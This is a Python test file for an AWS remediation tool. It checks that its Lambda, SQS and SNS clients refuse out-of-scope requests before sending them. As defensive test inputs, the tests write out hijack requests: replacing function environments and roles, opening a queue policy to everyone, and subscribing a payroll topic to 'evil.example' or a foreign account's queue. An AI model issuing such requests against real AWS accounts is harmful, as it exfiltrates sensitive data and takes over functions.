"""What IAM cannot narrow, the actions check on their own clients before a request is sent (issue 18, finding 5).

The actions role may call UpdateFunctionConfiguration on any opted-in function (IAM has no condition on the fields),
SetQueueAttributes on any buffer queue and Subscribe on any topic of the account (no condition on a queue's policy
nor on which topic). Each test below makes the request an attacker (or a bug) would need, on the very client the
action changed AWS with, against the embedded AWS over HTTP, and counts what reached it: nothing.
"""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pytest

from medic.actions import PlannedAction, get_action
from medic.actions.request_checks import RequestRefused
from medic.alarms.signals import Target
from medic.aws import AwsClients
from medic.errors import ActionFailed
from medic.facts import Facts
from medic_tools.world import moto_ext
from medic_tools.world.server import EmbeddedAWS

REGION, ACCOUNT = "us-east-1", "123456789012"
LIVE_ARN = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:thumbnailer:live"
TOPIC_ARN = f"arn:aws:sns:{REGION}:{ACCOUNT}:photo-uploads"
SECRETS_TOPIC = f"arn:aws:sns:{REGION}:{ACCOUNT}:payroll-events"
BUFFER = "medic-buffer-thumbnailer"
BUFFER_ARN = f"arn:aws:sqs:{REGION}:{ACCOUNT}:{BUFFER}"


@pytest.fixture
def clients(aws: EmbeddedAWS) -> AwsClients:
    return AwsClients(region=REGION)


def function(aws: EmbeddedAWS, name: str, tags: dict[str, str]) -> Any:
    """`name` with version 1 and alias live → 1 (256 MB, timeout 30 s, an environment of its own)."""
    role = aws.client("iam").create_role(RoleName=f"{name}-role", AssumeRolePolicyDocument="{}")["Role"]["Arn"]
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as handler:
        handler.writestr("app.py", "def handler(event, context):\n    return event\n")
    lam = aws.client("lambda")
    lam.create_function(FunctionName=name, Runtime="python3.12", Role=role, Handler="app.handler",
                        Code={"ZipFile": archive.getvalue()}, MemorySize=256, Timeout=30, Tags=tags,
                        Environment={"Variables": {"DB_HOST": "orders-db"}})  # fmt: skip
    lam.publish_version(FunctionName=name)
    lam.create_alias(FunctionName=name, Name="live", FunctionVersion="1")
    return lam


def changes(served: moto_ext.RequestLog) -> list[str]:
    """The operations that reached the world, reads left out."""
    return [r.operation for r in served.requests if not r.operation.startswith(("Get", "List"))]


# -- UpdateFunctionConfiguration: MemorySize only -------------------------------------------------------------------


def test_a_configuration_change_carrying_another_field_is_refused_before_it_is_sent(
    aws: EmbeddedAWS, clients: AwsClients
) -> None:
    lam = function(aws, "pricing", {"medic:managed": "true"})
    facts = Facts(function_name="pricing", memory_mb=256, qualifier="$LATEST", managed=True)
    [action] = get_action("set_memory").plan(Target.function("pricing"), {"memory_mb": 512}, facts)
    get_action("set_memory").apply(clients, action)
    assert lam.get_function_configuration(FunctionName="pricing")["MemorySize"] == 512, "MemorySize goes through"

    hijack = {"FunctionName": "pricing", "MemorySize": 1024, "Environment": {"Variables": {"DB_HOST": "evil"}}}
    with moto_ext.count_requests() as served, pytest.raises(RequestRefused) as refused:
        clients.lambda_.update_function_configuration(**hijack)  # the client set_memory changed AWS with

    assert "may carry only FunctionName, MemorySize" in str(refused.value) and "not Environment" in str(refused.value)
    assert isinstance(refused.value, ActionFailed), "the executor fails the plan and rolls back, as for AWS's errors"
    assert served.requests == [], "nothing reached AWS"
    config = lam.get_function_configuration(FunctionName="pricing")
    assert (config["MemorySize"], config["Environment"]["Variables"]) == (512, {"DB_HOST": "orders-db"})
    for field in ({"Role": "arn:aws:iam::123456789012:role/admin"}, {"Handler": "evil.handler"}, {"Layers": []}):
        with pytest.raises(RequestRefused):
            clients.lambda_.update_function_configuration(FunctionName="pricing", **field)  # type: ignore[arg-type]


# -- the SQS buffer: its own queues, a policy for its producers, subscriptions of its topics --------------------------


def sns_world(aws: EmbeddedAWS) -> Any:
    """thumbnailer:live subscribed to photo-uploads; another topic, payroll-events, it has nothing to do with."""
    function(aws, "thumbnailer", {"medic:managed": "true", "medic:sqs-buffer": "ready"})
    sns = aws.client("sns")
    sns.create_topic(Name="photo-uploads")
    sns.create_topic(Name="payroll-events")
    sns.subscribe(TopicArn=TOPIC_ARN, Protocol="lambda", Endpoint=LIVE_ARN)
    return sns


def buffer_plan(**resource: Any) -> PlannedAction:
    ready = {"medic:managed": "true", "medic:sqs-buffer": "ready"}
    facts = Facts(function_name="thumbnailer", qualifier="live", managed=True, timeout_s=30, event_sources=[],
                  tags=ready, async_sources=f"sns:{TOPIC_ARN}")  # fmt: skip
    target = Target.function("thumbnailer", "live")
    [action] = get_action("enable_sqs_buffer").plan(target, {"maximum_concurrency": 5}, facts)
    action.resource.update(resource)
    return action


def test_a_plan_naming_queues_that_are_not_the_functions_own_is_refused_before_any_call(
    aws: EmbeddedAWS, clients: AwsClients
) -> None:
    sns_world(aws)
    aws.client("sqs").create_queue(QueueName="medic-buffer-payroll", tags={"medic:created-by": "medic"})
    foreign = buffer_plan(queue="medic-buffer-payroll")

    with moto_ext.count_requests() as served:
        with pytest.raises(ActionFailed, match="not thumbnailer's own buffer queues medic-buffer-thumbnailer"):
            get_action("enable_sqs_buffer").apply(clients, foreign)
        with pytest.raises(ActionFailed, match="not thumbnailer's own buffer queues"):
            get_action("enable_sqs_buffer").rollback(clients, foreign)  # it would delete medic-buffer-payroll

    assert served.requests == []
    assert aws.client("sqs").get_queue_url(QueueName="medic-buffer-payroll")["QueueUrl"]


def test_a_plan_naming_a_topic_that_does_not_feed_the_function_subscribes_nothing(
    aws: EmbeddedAWS, clients: AwsClients
) -> None:
    sns = sns_world(aws)
    other = buffer_plan(topics=f"{TOPIC_ARN},{SECRETS_TOPIC}")  # payroll-events never invoked thumbnailer

    with moto_ext.count_requests() as served, pytest.raises(ActionFailed) as refused:
        get_action("enable_sqs_buffer").apply(clients, other)

    assert refused.value.reason == f"SNS topic {SECRETS_TOPIC} has no lambda subscription to {LIVE_ARN}"
    assert changes(served) == [], "refused before the queue, its policy or any subscription"
    assert sns.list_subscriptions_by_topic(TopicArn=SECRETS_TOPIC)["Subscriptions"] == []


def test_the_buffer_clients_refuse_an_open_queue_policy_and_subscriptions_it_never_makes(
    aws: EmbeddedAWS, clients: AwsClients
) -> None:
    sns = sns_world(aws)
    action = buffer_plan()
    get_action("enable_sqs_buffer").apply(clients, action)  # the real buffer: queue, policy, subscription
    queue_url = aws.client("sqs").get_queue_url(QueueName=BUFFER)["QueueUrl"]
    policy = aws.client("sqs").get_queue_attributes(QueueUrl=queue_url, AttributeNames=["Policy"])["Attributes"]
    sqs, sns_client = clients.sqs, clients.client("sns")  # the clients the buffer changed AWS with
    open_to_all = json.dumps({"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sqs:ReceiveMessage",
                                             "Resource": BUFFER_ARN}]})  # fmt: skip
    attempts = [
        (sqs.set_queue_attributes, {"QueueUrl": queue_url, "Attributes": {"Policy": open_to_all}}, "a principal '*'"),
        (sqs.set_queue_attributes, {"QueueUrl": queue_url.replace(BUFFER, "orders"), "Attributes": {}},
         "its buffer queues (medic-buffer-*) only, not 'orders'"),
        (sqs.set_queue_attributes, {"QueueUrl": queue_url, "Attributes": {"KmsMasterKeyId": "alias/x"}},
         "not KmsMasterKeyId"),
        (sqs.create_queue, {"QueueName": "exfil"}, "creates its buffer queues (medic-buffer-*) only"),
        (sns_client.subscribe, {"TopicArn": SECRETS_TOPIC, "Protocol": "https", "Endpoint": "https://evil.example/"},
         "lambda and sqs subscriptions only, not 'https'"),
        (sns_client.subscribe, {"TopicArn": SECRETS_TOPIC, "Protocol": "sqs",
                                "Endpoint": f"arn:aws:sqs:{REGION}:999999999999:exfil"}, "goes to a buffer queue"),
        (sns_client.subscribe, {"TopicArn": TOPIC_ARN, "Protocol": "sqs", "Endpoint": BUFFER_ARN,
                                "Attributes": {"DeliveryPolicy": "{}"}}, "not ['DeliveryPolicy']"),
    ]  # fmt: skip

    with moto_ext.count_requests() as served:
        for call, request, problem in attempts:
            with pytest.raises(RequestRefused) as refused:
                call(**request)
            assert problem in str(refused.value), str(refused.value)

    assert changes(served) == []
    after = aws.client("sqs").get_queue_attributes(QueueUrl=queue_url, AttributeNames=["Policy"])["Attributes"]
    assert after == policy, "the buffer's policy, as the buffer set it"
    assert sns.list_subscriptions_by_topic(TopicArn=SECRETS_TOPIC)["Subscriptions"] == []
